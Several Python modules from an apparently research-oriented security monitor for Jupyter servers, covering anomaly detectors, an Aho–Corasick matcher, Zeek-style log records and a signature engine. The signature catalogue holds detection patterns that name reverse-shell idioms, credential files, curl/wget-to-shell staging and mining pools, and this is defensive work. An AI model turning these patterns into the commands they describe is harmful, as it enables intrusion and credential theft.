    touch one prefix (their own; admins occasionally a second), so the
    threshold can sit low without false positives.
    """

    name = "tenant-sweep"

    def __init__(self, *, window: float = 120.0, max_tenants: int = 3, **kw):
        super().__init__(**kw)
        self.window = window
        self.max_tenants = max_tenants
        self._touched: Dict[str, Deque[Tuple[float, str]]] = defaultdict(deque)

    def observe_request(self, ts: float, src: str, path: str) -> Optional[Notice]:
        if not path.startswith("/user/"):
            return None
        parts = path.split("/", 3)
        tenant = parts[2] if len(parts) > 2 else ""
        if not tenant:
            return None
        q = self._touched[src]
        q.append((ts, tenant))
        cutoff = ts - self.window
        while q and q[0][0] < cutoff:
            q.popleft()
        tenants = {t for _, t in q}
        if len(tenants) >= self.max_tenants:
            return self._emit(Notice(
                ts=ts, detector=self.name, name="CROSS_TENANT_SWEEP", severity="high",
                src=src, avenue=Avenue.ACCOUNT_TAKEOVER,
                detail={"distinct_tenants": len(tenants), "window": self.window,
                        "example_tenants": sorted(tenants)[:5]},
            ))
        return None


class NewSourceDetector(AnomalyDetector):
    """Successful authentication from infrastructure never seen before.

    Takes a learning period during which sources are baselined silently;
    afterwards, a *successful* auth from a new source raises a
    stolen-credential notice (medium severity — it may be a new laptop,
    but for HPC gateways the paper's incident history says investigate).
    """

    name = "new-source"

    def __init__(self, *, learning_until: float = 3600.0, **kw):
        super().__init__(**kw)
        self.learning_until = learning_until
        self._known: Set[str] = set()

    def observe_auth(self, ts: float, src: str, ok: bool) -> Optional[Notice]:
        if not ok or not src:
            return None
        if ts <= self.learning_until:
            self._known.add(src)
            return None
        if src in self._known:
            return None
        self._known.add(src)
        return self._emit(Notice(
            ts=ts, detector=self.name, name="NEW_SOURCE_LOGIN", severity="medium",
            src=src, avenue=Avenue.ACCOUNT_TAKEOVER,
            detail={"first_seen": ts},
        ))
