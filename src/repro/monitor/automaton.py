"""Aho–Corasick multi-pattern automaton for signature anchors.

The signature engine's prefilter question is "which of these K literal
anchors occur in this text?" — asked once per scanned record, where K
grows as honeypots harvest rules at runtime.  A per-anchor substring
loop answers it in O(K·n); the classic Aho–Corasick automaton answers
it in one O(n) pass regardless of K, and — unlike a non-overlapping
regex alternation ``finditer`` — reports *every* anchor present, even
anchors that overlap another match (``bitcoin``/``coin``), which is
what makes it a sound candidate filter.

The automaton is byte-level and lowercase-folded: patterns are stored
as ``pattern.lower().encode("utf-8")`` and callers scan
``text.lower().encode("utf-8")``, so a hit corresponds exactly to the
``anchor in text.lower()`` test the naive prefilter used (UTF-8 is
self-synchronizing, so byte-substring hits are character-substring
hits).

Construction is *incremental*: :meth:`add` extends the goto trie in
place and only marks the failure links dirty; the BFS recompute runs
lazily on the next :meth:`search`.  That is what lets threat-intel
feeds install harvested signatures mid-stream without a stop-the-world
rebuild of anything but one automaton's link table.
"""

from __future__ import annotations

from collections import deque
from typing import Dict, Hashable, Iterable, List, Set, Tuple


class AhoCorasick:
    """Multi-pattern matcher mapping each pattern to a caller value.

    Values are arbitrary hashables (the signature engine uses catalogue
    positions); :meth:`search` returns the set of values whose pattern
    occurs anywhere in the input.
    """

    __slots__ = ("_goto", "_own", "_out", "_fail", "_dirty", "_patterns")

    def __init__(self, items: Iterable[Tuple[str, Hashable]] = ()) -> None:
        # Node 0 is the root.  _own holds values terminating at a node;
        # _out is the BFS-propagated closure (own ∪ out[fail]).
        self._goto: List[Dict[int, int]] = [{}]
        self._own: List[Tuple[Hashable, ...]] = [()]
        self._out: List[Tuple[Hashable, ...]] = [()]
        self._fail: List[int] = [0]
        self._dirty = False
        self._patterns: Dict[bytes, None] = {}
        for pattern, value in items:
            self.add(pattern, value)

    def __len__(self) -> int:
        return len(self._patterns)

    def add(self, pattern: str, value: Hashable) -> None:
        """Install ``pattern`` (case-folded) mapping to ``value``.

        Extends the trie incrementally; failure links are recomputed
        lazily on the next search.
        """
        data = pattern.lower().encode("utf-8")
        if not data:
            return
        self._patterns[data] = None
        goto = self._goto
        node = 0
        for b in data:
            nxt = goto[node].get(b)
            if nxt is None:
                goto.append({})
                self._own.append(())
                self._out.append(())
                self._fail.append(0)
                nxt = len(goto) - 1
                goto[node][b] = nxt
            node = nxt
        if value not in self._own[node]:
            self._own[node] = self._own[node] + (value,)
        self._dirty = True

    def _build(self) -> None:
        """BFS failure-link and output-closure recompute (Aho–Corasick
        construction, goto kept sparse)."""
        goto = self._goto
        own = self._own
        out = self._out
        fail = self._fail
        queue = deque()
        for child in goto[0].values():
            fail[child] = 0
            out[child] = own[child]
            queue.append(child)
        while queue:
            node = queue.popleft()
            node_goto = goto[node]
            for b, child in node_goto.items():
                f = fail[node]
                while f and b not in goto[f]:
                    f = fail[f]
                linked = goto[f].get(b, 0)
                if linked == child:  # depth-1 self-reference guard
                    linked = 0
                fail[child] = linked
                out[child] = own[child] + out[linked] if out[linked] else own[child]
                queue.append(child)
        self._dirty = False

    def search(self, data: bytes) -> Set[Hashable]:
        """All values whose (folded) pattern occurs in ``data``.

        ``data`` must already be lowercase-folded bytes
        (``text.lower().encode("utf-8")``).
        """
        if self._dirty:
            self._build()
        goto = self._goto
        fail = self._fail
        out = self._out
        node = 0
        found: Set[Hashable] = set()
        for b in data:
            nxt = goto[node].get(b)
            while nxt is None and node:
                node = fail[node]
                nxt = goto[node].get(b)
            if nxt is not None:
                node = nxt
                o = out[node]
                if o:
                    found.update(o)
        return found

    def contains_any(self, data: bytes) -> bool:
        """Cheaper early-exit variant of :meth:`search`."""
        if self._dirty:
            self._build()
        goto = self._goto
        fail = self._fail
        out = self._out
        node = 0
        for b in data:
            nxt = goto[node].get(b)
            while nxt is None and node:
                node = fail[node]
                nxt = goto[node].get(b)
            if nxt is not None:
                node = nxt
                if out[node]:
                    return True
        return False
