"""Typed log records mirroring Zeek's log families.

``conn.log`` → :class:`ConnRecord`, ``http.log`` → :class:`HttpRecord`,
the WebSocket log Zeek PR #3555 introduces → :class:`WebSocketRecord`,
plus two families Zeek lacks and the paper argues for: a ZMTP log and a
Jupyter-message log.  ``notice.log`` and ``weird.log`` keep their Zeek
names.  The :class:`LogStore` is what the dataset exporter serializes.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Dict, List, Optional

from repro.taxonomy.oscrp import Avenue


@dataclass(slots=True)
class ConnRecord:
    """One TCP connection (conn.log)."""

    ts: float
    uid: str
    src: str
    sport: int
    dst: str
    dport: int
    service: str = ""  # http | websocket | zmtp | unknown
    bytes_orig: int = 0
    bytes_resp: int = 0
    closed: bool = False
    duration: float = 0.0


@dataclass(slots=True)
class HttpRecord:
    """One HTTP transaction (http.log)."""

    ts: float
    uid: str
    src: str
    dst: str
    method: str
    path: str
    status: int = 0
    request_bytes: int = 0
    response_bytes: int = 0
    has_auth: bool = False
    user_agent: str = ""
    #: The proxy's X-Request-Id when this is a backend leg the telemetry
    #: tracer could join back to a front-door request ("" otherwise).
    request_id: str = ""


@dataclass(slots=True)
class WebSocketRecord:
    """One WebSocket message (websocket.log, à la Zeek PR #3555)."""

    ts: float
    uid: str
    src: str
    dst: str
    opcode: str
    payload_bytes: int
    masked: bool
    entropy: float = 0.0


@dataclass(slots=True)
class ZmtpRecord:
    """One ZMTP multipart message (the analyzer Zeek lacks)."""

    ts: float
    uid: str
    src: str
    dst: str
    parts: int
    payload_bytes: int
    mechanism: str = ""


@dataclass(slots=True)
class JupyterMsgRecord:
    """One Jupyter-protocol message, from either WS or ZMTP framing."""

    ts: float
    uid: str
    src: str
    dst: str
    channel: str
    msg_type: str
    session: str = ""
    username: str = ""
    code_size: int = 0
    output_size: int = 0
    code: str = ""  # retained for signature matching; anonymizer may drop
    signature_ok: Optional[bool] = None


@dataclass(slots=True)
class WeirdRecord:
    """Protocol anomalies the analyzers could not interpret (weird.log)."""

    ts: float
    uid: str
    name: str
    detail: str = ""


@dataclass(slots=True)
class Notice:
    """An actionable security notice (notice.log), OSCRP-tagged."""

    ts: float
    detector: str
    name: str
    severity: str  # "low" | "medium" | "high" | "critical"
    src: str = ""
    dst: str = ""
    avenue: Optional[Avenue] = None
    detail: Dict[str, Any] = field(default_factory=dict)
    #: Trace identity stamped by the monitor when telemetry is enabled:
    #: the ``detector.hit`` span (parented to the front-door request
    #: that carried the payload, when resolvable).  "" when disabled.
    trace_id: str = ""
    span_id: str = ""


class LogStore:
    """All log families for one monitor instance."""

    def __init__(self) -> None:
        self.conn: List[ConnRecord] = []
        self.http: List[HttpRecord] = []
        self.websocket: List[WebSocketRecord] = []
        self.zmtp: List[ZmtpRecord] = []
        self.jupyter: List[JupyterMsgRecord] = []
        self.weird: List[WeirdRecord] = []
        self.notices: List[Notice] = []

    def notice_names(self) -> List[str]:
        return [n.name for n in self.notices]

    def notices_for(self, avenue: Avenue) -> List[Notice]:
        return [n for n in self.notices if n.avenue == avenue]

    def counts(self) -> Dict[str, int]:
        return {
            "conn": len(self.conn),
            "http": len(self.http),
            "websocket": len(self.websocket),
            "zmtp": len(self.zmtp),
            "jupyter": len(self.jupyter),
            "weird": len(self.weird),
            "notices": len(self.notices),
        }
