"""Typed log records mirroring Zeek's log families.

``conn.log`` → :class:`ConnRecord`, ``http.log`` → :class:`HttpRecord`,
the WebSocket log Zeek PR #3555 introduces → :class:`WebSocketRecord`,
plus two families Zeek lacks and the paper argues for: a ZMTP log and a
Jupyter-message log.  ``notice.log`` and ``weird.log`` keep their Zeek
names.  The :class:`LogStore` is what the dataset exporter serializes.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Dict, List, Optional

from repro.taxonomy.oscrp import Avenue


@dataclass(slots=True)
class ConnRecord:
    """One TCP connection (conn.log)."""

    ts: float
    uid: str
    src: str
    sport: int
    dst: str
    dport: int
    service: str = ""  # http | websocket | zmtp | unknown
    bytes_orig: int = 0
    bytes_resp: int = 0
    closed: bool = False
    duration: float = 0.0


@dataclass(slots=True)
class HttpRecord:
    """One HTTP transaction (http.log)."""

    ts: float
    uid: str
    src: str
    dst: str
    method: str
    path: str
    status: int = 0
    request_bytes: int = 0
    response_bytes: int = 0
    has_auth: bool = False
    user_agent: str = ""
    #: The proxy's X-Request-Id when this is a backend leg the telemetry
    #: tracer could join back to a front-door request ("" otherwise).
    request_id: str = ""


class WebSocketRecord:
    """One WebSocket message (websocket.log, à la Zeek PR #3555).

    ``entropy`` is *lazy*: the byte-entropy feature is read only by the
    dataset exporter, yet computing it eagerly cost ~6 µs of numpy work
    per message on the monitor hot path.  The record instead pins the
    payload and computes ``round(shannon_entropy(payload), 3)`` on first
    access, releasing the payload ref afterwards.  Trade: a record whose
    entropy is never read keeps its payload alive as long as the record
    itself — acceptable because the ``LogStore`` already retains
    per-message records (and code strings) unbounded; consumers that
    need bounded memory read or drop records either way.
    """

    __slots__ = ("ts", "uid", "src", "dst", "opcode", "payload_bytes",
                 "masked", "_entropy", "_payload")

    def __init__(self, ts: float, uid: str, src: str, dst: str, opcode: str,
                 payload_bytes: int, masked: bool, entropy: float = 0.0,
                 payload: Optional[bytes] = None):
        self.ts = ts
        self.uid = uid
        self.src = src
        self.dst = dst
        self.opcode = opcode
        self.payload_bytes = payload_bytes
        self.masked = masked
        self._entropy = entropy
        self._payload = payload

    @property
    def entropy(self) -> float:
        payload = self._payload
        if payload is not None:
            from repro.util.entropy import shannon_entropy

            self._entropy = round(shannon_entropy(payload), 3)
            self._payload = None
        return self._entropy

    @entropy.setter
    def entropy(self, value: float) -> None:
        self._entropy = value
        self._payload = None

    def _astuple(self):
        return (self.ts, self.uid, self.src, self.dst, self.opcode,
                self.payload_bytes, self.masked, self.entropy)

    def __eq__(self, other: object) -> bool:
        if other.__class__ is not WebSocketRecord:
            return NotImplemented
        return self._astuple() == other._astuple()

    def __repr__(self) -> str:
        return ("WebSocketRecord(ts={!r}, uid={!r}, src={!r}, dst={!r}, opcode={!r}, "
                "payload_bytes={!r}, masked={!r}, entropy={!r})".format(*self._astuple()))


@dataclass(slots=True)
class ZmtpRecord:
    """One ZMTP multipart message (the analyzer Zeek lacks)."""

    ts: float
    uid: str
    src: str
    dst: str
    parts: int
    payload_bytes: int
    mechanism: str = ""


@dataclass(slots=True)
class JupyterMsgRecord:
    """One Jupyter-protocol message, from either WS or ZMTP framing."""

    ts: float
    uid: str
    src: str
    dst: str
    channel: str
    msg_type: str
    session: str = ""
    username: str = ""
    code_size: int = 0
    output_size: int = 0
    code: str = ""  # retained for signature matching; anonymizer may drop
    signature_ok: Optional[bool] = None


@dataclass(slots=True)
class WeirdRecord:
    """Protocol anomalies the analyzers could not interpret (weird.log)."""

    ts: float
    uid: str
    name: str
    detail: str = ""


@dataclass(slots=True)
class Notice:
    """An actionable security notice (notice.log), OSCRP-tagged."""

    ts: float
    detector: str
    name: str
    severity: str  # "low" | "medium" | "high" | "critical"
    src: str = ""
    dst: str = ""
    avenue: Optional[Avenue] = None
    detail: Dict[str, Any] = field(default_factory=dict)
    #: Trace identity stamped by the monitor when telemetry is enabled:
    #: the ``detector.hit`` span (parented to the front-door request
    #: that carried the payload, when resolvable).  "" when disabled.
    trace_id: str = ""
    span_id: str = ""


class LazyRecordList(list):
    """Slab storage for a hot log family.

    The analysis loop appends plain *field tuples* (a ~40 ns C
    allocation) instead of record objects (~400 ns through a Python
    ``__init__`` with a dozen assignments); the record object for an
    entry materializes — and replaces the tuple in place, so identity
    is stable afterwards — the first time that entry is read.  Steady
    state analysis therefore allocates one tuple per message, and the
    object cost is paid only for records something actually inspects.

    The hot path may also append ready-made record objects (fallback
    paths do); storage is mixed and ``type(v) is tuple`` picks the raw
    entries out.  Record classes must accept their fields positionally
    in storage order.  Only the read patterns the monitor's consumers
    use are intercepted (indexing, slicing, iteration, reversal,
    containment); list mutators behave as plain ``list``.
    """

    __slots__ = ("_make",)

    def __init__(self, make):
        list.__init__(self)
        self._make = make

    def _materialize(self, i: int):
        v = list.__getitem__(self, i)
        if type(v) is tuple:
            v = self._make(*v)
            list.__setitem__(self, i, v)
        return v

    def __getitem__(self, i):
        if type(i) is slice:
            return [self._materialize(j)
                    for j in range(*i.indices(list.__len__(self)))]
        return self._materialize(i)

    def __iter__(self):
        i = 0
        while i < list.__len__(self):
            yield self._materialize(i)
            i += 1

    def __reversed__(self):
        for i in range(list.__len__(self) - 1, -1, -1):
            yield self._materialize(i)

    def __contains__(self, item) -> bool:
        return any(rec == item for rec in self)


class LogStore:
    """All log families for one monitor instance.

    The three per-message families (``websocket``/``zmtp``/``jupyter``)
    use :class:`LazyRecordList` slabs; the low-rate families stay plain
    lists (notices are mutated in place by telemetry stamping).
    """

    def __init__(self) -> None:
        self.conn: List[ConnRecord] = []
        self.http: List[HttpRecord] = []
        self.websocket: LazyRecordList = LazyRecordList(WebSocketRecord)
        self.zmtp: LazyRecordList = LazyRecordList(ZmtpRecord)
        self.jupyter: LazyRecordList = LazyRecordList(JupyterMsgRecord)
        self.weird: List[WeirdRecord] = []
        self.notices: List[Notice] = []

    def notice_names(self) -> List[str]:
        return [n.name for n in self.notices]

    def notices_for(self, avenue: Avenue) -> List[Notice]:
        return [n for n in self.notices if n.avenue == avenue]

    def counts(self) -> Dict[str, int]:
        return {
            "conn": len(self.conn),
            "http": len(self.http),
            "websocket": len(self.websocket),
            "zmtp": len(self.zmtp),
            "jupyter": len(self.jupyter),
            "weird": len(self.weird),
            "notices": len(self.notices),
        }
