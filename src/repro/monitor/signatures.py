"""Signature engine: content rules over decoded protocol events.

The rule shape follows Zeek signatures / Suricata content matches: a
byte-regex over a specific field of a specific log family, with OSCRP
metadata.  Honeypots *harvest* signatures from observed attacks (see
:mod:`repro.honeypot.harvest`) and ship them here via threat-intel
indicators — the workflow the paper proposes for staying ahead of
attackers.

Matching is two-tier (see :class:`_FamilyMatcher`): a compiled
alternation regex over every anchor clears benign text in one C-level
search, and on a hit a shared Aho–Corasick automaton
(:mod:`repro.monitor.automaton`) enumerates exactly which anchors are
present so only the signatures those anchors belong to pay their full
regex — sound because a declared anchor MUST appear in any text its
rule can match.  ``parity_check=True`` re-runs every scan through the
naive per-signature loop and asserts identical hits.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import Any, Callable, Dict, List, Optional, Pattern, Tuple, Union

from repro.monitor.automaton import AhoCorasick
from repro.monitor.logs import HttpRecord, JupyterMsgRecord, Notice
from repro.taxonomy.oscrp import Avenue


@dataclass
class Signature:
    """One content rule."""

    sig_id: str
    description: str
    family: str               # "jupyter-code" | "http-path" | "http-body" | "terminal"
    pattern: str               # regex source
    severity: str = "high"
    avenue: Optional[Avenue] = None
    source: str = "builtin"   # "builtin" | "honeypot:<name>" | "intel"
    #: Content prefilter (à la Suricata's fast-pattern): lowercase
    #: literals, at least one of which MUST appear in any text the regex
    #: can match.  Lets the engine gate the (expensive) regex pass behind
    #: C substring checks.  Empty = no safe anchor known; the rule's
    #: family then always runs its full regex loop.
    anchors: Tuple[str, ...] = ()
    _compiled: Optional[Pattern[str]] = field(default=None, repr=False, compare=False)

    def compiled(self) -> Pattern[str]:
        if self._compiled is None:
            object.__setattr__(self, "_compiled", re.compile(self.pattern, re.IGNORECASE | re.DOTALL))
        return self._compiled

    def matches(self, text: str) -> bool:
        return bool(self.compiled().search(text))


#: Rules a deployment starts with — modelled on real Jupyter-abuse IoCs.
BUILTIN_SIGNATURES: List[Signature] = [
    Signature("SIG-MINER-POOL", "Stratum mining pool handshake in cell code",
              "jupyter-code", r"stratum\+tcp://|mining\.subscribe|minexmr|xmrig",
              avenue=Avenue.CRYPTOMINING,
              anchors=("stratum+tcp://", "mining.subscribe", "minexmr", "xmrig")),
    Signature("SIG-RANSOM-NOTE", "Ransom note vocabulary in cell code",
              "jupyter-code", r"(files (are|have been) encrypted|bitcoin|decryption key|pay.{0,20}ransom)",
              avenue=Avenue.RANSOMWARE,
              anchors=("encrypted", "bitcoin", "decryption key", "ransom")),
    Signature("SIG-REVSHELL", "Reverse shell one-liner",
              "jupyter-code", r"(/dev/tcp/|nc -e|bash -i >&|socket\.socket\(\).{0,80}subprocess)",
              avenue=Avenue.ZERO_DAY,
              anchors=("/dev/tcp/", "nc -e", "bash -i >&", "socket.socket()")),
    Signature("SIG-CRED-HARVEST", "Credential file access from cell code",
              "jupyter-code", r"(\.ssh/id_rsa|\.aws/credentials|JUPYTER_TOKEN|/etc/passwd)",
              avenue=Avenue.ACCOUNT_TAKEOVER,
              anchors=(".ssh/id_rsa", ".aws/credentials", "jupyter_token", "/etc/passwd")),
    Signature("SIG-PIPE-SH", "Download-and-execute staging",
              "terminal", r"(curl|wget).{0,120}\|\s*(ba)?sh",
              avenue=Avenue.ZERO_DAY,
              anchors=("curl", "wget")),
    Signature("SIG-LSP-TRAVERSAL", "jupyter-lsp path traversal probe (CVE-2024-22415)",
              "http-path", r"/lsp/.*\.\./",
              avenue=Avenue.ZERO_DAY,
              anchors=("/lsp/",)),
    Signature("SIG-API-SCAN", "Scanner fingerprinting the /api endpoint",
              "http-path", r"^/api/?$",
              severity="low", avenue=Avenue.MISCONFIGURATION,
              anchors=("/api",)),
]


class _FamilyMatcher:
    """Compiled matching state for one rule family.

    Three layers, cheapest first:

    1. ``gate`` — one C-level regex search over a case-SENSITIVE
       alternation of every anchored rule's (lowercased) anchors, run
       against ``text.lower()``.  Folding the text once and searching
       case-sensitively is 5-8x faster than an IGNORECASE alternation
       (which defeats CPython's literal-scan optimizations), and it is
       the *same* folding the automaton uses, so layers 1 and 2 agree
       byte-for-byte on what an anchor occurrence is.  Benign text (the
       overwhelmingly common case) exits here.  ``None`` when the
       family has no anchored rules.
    2. ``ac`` — the shared Aho–Corasick automaton, run only on a gate
       hit.  Unlike the gate's alternation it reports *every* anchor
       present (overlaps included), so it soundly names the candidate
       rules; rules none of whose anchors occurred are skipped.
    3. The candidates' own regexes confirm, in catalogue order.

    The anchor contract is defined under ``str.lower()`` folding: a
    declared anchor must appear in ``text.lower()`` for any text the
    rule's regex can match.  ``re.IGNORECASE`` knows a handful of extra
    case equivalences ``lower()`` does not (U+017F ſ→s, U+212A K→k);
    a rule whose regex relies on matching those codepoints must be
    declared anchorless.

    Anchorless rules bypass layers 1–2 and always run their regex —
    they never widen other rules' scans, and a family of only
    anchorless rules degrades to exactly the naive loop.
    """

    __slots__ = ("rows", "gate", "ac", "has_unanchored", "_anchor_terms")

    def __init__(self) -> None:
        #: (signature, candidate_key) in catalogue order; key None = anchorless.
        self.rows: List[Tuple[Signature, Optional[int]]] = []
        self.gate: Optional[Pattern[str]] = None
        self.ac = AhoCorasick()
        self.has_unanchored = False
        self._anchor_terms: List[str] = []

    def add_sig(self, sig: Signature) -> None:
        """Incremental install: extend the trie and recompile the gate;
        the automaton's failure links rebuild lazily on next search."""
        if sig.anchors:
            key = len(self.rows)
            self.rows.append((sig, key))
            for anchor in sig.anchors:
                self.ac.add(anchor, key)
                self._anchor_terms.append(re.escape(anchor.lower()))
            self.gate = re.compile("|".join(self._anchor_terms))
        else:
            self.rows.append((sig, None))
            self.has_unanchored = True

    def scan(self, text: str) -> List[Signature]:
        candidates: Any = None
        if self.gate is not None:
            folded = text.lower()
            if self.gate.search(folded) is not None:
                try:
                    candidates = self.ac.search(folded.encode("utf-8"))
                except UnicodeEncodeError:
                    # Lone surrogates (JSON \ud800 escapes): fold is
                    # unavailable, run every anchored rule — a superset
                    # of the candidates, so parity is preserved.
                    candidates = True
            elif self.has_unanchored:
                candidates = ()
            else:
                return []
        hits = []
        for sig, key in self.rows:
            if key is not None and candidates is not True and key not in candidates:
                continue
            if sig.matches(text):
                hits.append(sig)
        return hits


#: Lazily-built matcher index for the exact builtin catalogue, shared by
#: every engine that still runs stock rules (failure links pre-built, so
#: shared use is read-only).  An engine clones off it on first add().
_BUILTIN_INDEX: Optional[Dict[str, _FamilyMatcher]] = None


def _builtin_index() -> Dict[str, _FamilyMatcher]:
    global _BUILTIN_INDEX
    if _BUILTIN_INDEX is None:
        matchers: Dict[str, _FamilyMatcher] = {}
        for sig in BUILTIN_SIGNATURES:
            matcher = matchers.get(sig.family)
            if matcher is None:
                matcher = matchers[sig.family] = _FamilyMatcher()
            matcher.add_sig(sig)
        for matcher in matchers.values():
            matcher.ac.search(b"")  # force the failure-link build now
        _BUILTIN_INDEX = matchers
    return _BUILTIN_INDEX


class SignatureEngine:
    """Evaluates rules against decoded records and emits notices."""

    def __init__(self, signatures: Optional[List[Signature]] = None, *,
                 parity_check: bool = False):
        self.signatures: List[Signature] = list(signatures if signatures is not None else BUILTIN_SIGNATURES)
        self.match_count: Dict[str, int] = {}
        #: Optional work-unit profiler (repro.telemetry.profiler), set by
        #: the owning monitor engine when the world is profiled.  The
        #: kernel-code scan is the signature hot path, so it carries the
        #: one ``is not None``-guarded hook.
        self.profiler = None
        #: When True every scan also runs the naive per-signature loop
        #: and asserts identical hits (CI parity smoke / fuzz oracle).
        self.parity_check = parity_check
        self._matchers: Dict[str, _FamilyMatcher] = {}
        self._matchers_shared = False
        self._indexed_count = -1

    def add(self, signature: Signature) -> None:
        """Install a rule (threat-intel ingestion path). Id-dedups.

        When the engine owns a current family index, the rule is folded
        into its family's matcher incrementally (trie extension + lazy
        failure relink) instead of invalidating every family; a shared
        builtin index is abandoned for a private rebuild first.
        """
        if any(s.sig_id == signature.sig_id for s in self.signatures):
            return
        self.signatures.append(signature)
        if self._matchers_shared:
            self._indexed_count = -1  # clone-on-write: rebuild privately
            self._matchers_shared = False
        elif self._indexed_count == len(self.signatures) - 1:
            matcher = self._matchers.get(signature.family)
            if matcher is None:
                matcher = self._matchers[signature.family] = _FamilyMatcher()
            matcher.add_sig(signature)
            self._indexed_count += 1

    def ids(self) -> List[str]:
        return [s.sig_id for s in self.signatures]

    def _matcher(self, family: str) -> Optional[_FamilyMatcher]:
        if self._indexed_count != len(self.signatures):
            if self.signatures == BUILTIN_SIGNATURES:
                self._matchers = _builtin_index()
                self._matchers_shared = True
            else:
                matchers: Dict[str, _FamilyMatcher] = {}
                for sig in self.signatures:
                    matcher = matchers.get(sig.family)
                    if matcher is None:
                        matcher = matchers[sig.family] = _FamilyMatcher()
                    matcher.add_sig(sig)
                self._matchers = matchers
                self._matchers_shared = False
            self._indexed_count = len(self.signatures)
        return self._matchers.get(family)

    def _match(self, family: str, text: str) -> List[Signature]:
        if not text:
            return []
        matcher = self._matcher(family)
        if matcher is None:
            return []
        hits = matcher.scan(text)
        if self.parity_check:
            naive = self._match_naive(family, text)
            if [s.sig_id for s in hits] != [s.sig_id for s in naive]:
                raise AssertionError(
                    "automaton/naive signature divergence on family "
                    f"{family!r}: automaton={[s.sig_id for s in hits]} "
                    f"naive={[s.sig_id for s in naive]} text={text[:200]!r}")
        counts = self.match_count
        for sig in hits:
            counts[sig.sig_id] = counts.get(sig.sig_id, 0) + 1
        return hits

    def _match_naive(self, family: str, text: str) -> List[Signature]:
        """The pre-automaton reference scan: every family rule's regex,
        in catalogue order.  Kept as the parity oracle (no counters)."""
        return [sig for sig in self.signatures
                if sig.family == family and sig.matches(text)]

    _PROF_SCAN = ("hot", "monitor.signatures", "scan_jupyter")

    def scan_jupyter(self, rec: JupyterMsgRecord) -> List[Notice]:
        prof = self.profiler
        if prof is not None:
            prof.account(self._PROF_SCAN, len(rec.code))
        notices = []
        for sig in self._match("jupyter-code", rec.code):
            notices.append(Notice(
                ts=rec.ts, detector="signature", name=sig.sig_id, severity=sig.severity,
                src=rec.src, dst=rec.dst, avenue=sig.avenue,
                detail={"description": sig.description, "msg_type": rec.msg_type,
                        "source": sig.source},
            ))
        return notices

    def scan_http(self, rec: HttpRecord, body: Union[str, bytes] = "") -> List[Notice]:
        notices = []
        for sig in self._match("http-path", rec.path):
            notices.append(Notice(
                ts=rec.ts, detector="signature", name=sig.sig_id, severity=sig.severity,
                src=rec.src, dst=rec.dst, avenue=sig.avenue,
                detail={"description": sig.description, "path": rec.path, "source": sig.source},
            ))
        if body and self._matcher("http-body") is not None:
            # Lazy body decode: raw bytes are accepted and only pay the
            # latin-1 decode when an http-body rule is installed at all
            # (no builtin is, so the common monitor never decodes).
            body_text = body.decode("latin-1") if type(body) is bytes else body
            for sig in self._match("http-body", body_text):
                notices.append(Notice(
                    ts=rec.ts, detector="signature", name=sig.sig_id, severity=sig.severity,
                    src=rec.src, dst=rec.dst, avenue=sig.avenue,
                    detail={"description": sig.description, "source": sig.source},
                ))
        return notices

    def scan_terminal(self, ts: float, src: str, command: str) -> List[Notice]:
        return [
            Notice(ts=ts, detector="signature", name=sig.sig_id, severity=sig.severity,
                   src=src, avenue=sig.avenue,
                   detail={"description": sig.description, "command": command,
                           "source": sig.source})
            for sig in self._match("terminal", command)
        ]
