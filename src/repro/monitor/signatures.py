"""Signature engine: content rules over decoded protocol events.

The rule shape follows Zeek signatures / Suricata content matches: a
byte-regex over a specific field of a specific log family, with OSCRP
metadata.  Honeypots *harvest* signatures from observed attacks (see
:mod:`repro.honeypot.harvest`) and ship them here via threat-intel
indicators — the workflow the paper proposes for staying ahead of
attackers.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import Any, Callable, Dict, List, Optional, Pattern, Tuple

from repro.monitor.logs import HttpRecord, JupyterMsgRecord, Notice
from repro.taxonomy.oscrp import Avenue


@dataclass
class Signature:
    """One content rule."""

    sig_id: str
    description: str
    family: str               # "jupyter-code" | "http-path" | "http-body" | "terminal"
    pattern: str               # regex source
    severity: str = "high"
    avenue: Optional[Avenue] = None
    source: str = "builtin"   # "builtin" | "honeypot:<name>" | "intel"
    #: Content prefilter (à la Suricata's fast-pattern): lowercase
    #: literals, at least one of which MUST appear in any text the regex
    #: can match.  Lets the engine gate the (expensive) regex pass behind
    #: C substring checks.  Empty = no safe anchor known; the rule's
    #: family then always runs its full regex loop.
    anchors: Tuple[str, ...] = ()
    _compiled: Optional[Pattern[str]] = field(default=None, repr=False, compare=False)

    def compiled(self) -> Pattern[str]:
        if self._compiled is None:
            object.__setattr__(self, "_compiled", re.compile(self.pattern, re.IGNORECASE | re.DOTALL))
        return self._compiled

    def matches(self, text: str) -> bool:
        return bool(self.compiled().search(text))


#: Rules a deployment starts with — modelled on real Jupyter-abuse IoCs.
BUILTIN_SIGNATURES: List[Signature] = [
    Signature("SIG-MINER-POOL", "Stratum mining pool handshake in cell code",
              "jupyter-code", r"stratum\+tcp://|mining\.subscribe|minexmr|xmrig",
              avenue=Avenue.CRYPTOMINING,
              anchors=("stratum+tcp://", "mining.subscribe", "minexmr", "xmrig")),
    Signature("SIG-RANSOM-NOTE", "Ransom note vocabulary in cell code",
              "jupyter-code", r"(files (are|have been) encrypted|bitcoin|decryption key|pay.{0,20}ransom)",
              avenue=Avenue.RANSOMWARE,
              anchors=("encrypted", "bitcoin", "decryption key", "ransom")),
    Signature("SIG-REVSHELL", "Reverse shell one-liner",
              "jupyter-code", r"(/dev/tcp/|nc -e|bash -i >&|socket\.socket\(\).{0,80}subprocess)",
              avenue=Avenue.ZERO_DAY,
              anchors=("/dev/tcp/", "nc -e", "bash -i >&", "socket.socket()")),
    Signature("SIG-CRED-HARVEST", "Credential file access from cell code",
              "jupyter-code", r"(\.ssh/id_rsa|\.aws/credentials|JUPYTER_TOKEN|/etc/passwd)",
              avenue=Avenue.ACCOUNT_TAKEOVER,
              anchors=(".ssh/id_rsa", ".aws/credentials", "jupyter_token", "/etc/passwd")),
    Signature("SIG-PIPE-SH", "Download-and-execute staging",
              "terminal", r"(curl|wget).{0,120}\|\s*(ba)?sh",
              avenue=Avenue.ZERO_DAY,
              anchors=("curl", "wget")),
    Signature("SIG-LSP-TRAVERSAL", "jupyter-lsp path traversal probe (CVE-2024-22415)",
              "http-path", r"/lsp/.*\.\./",
              avenue=Avenue.ZERO_DAY,
              anchors=("/lsp/",)),
    Signature("SIG-API-SCAN", "Scanner fingerprinting the /api endpoint",
              "http-path", r"^/api/?$",
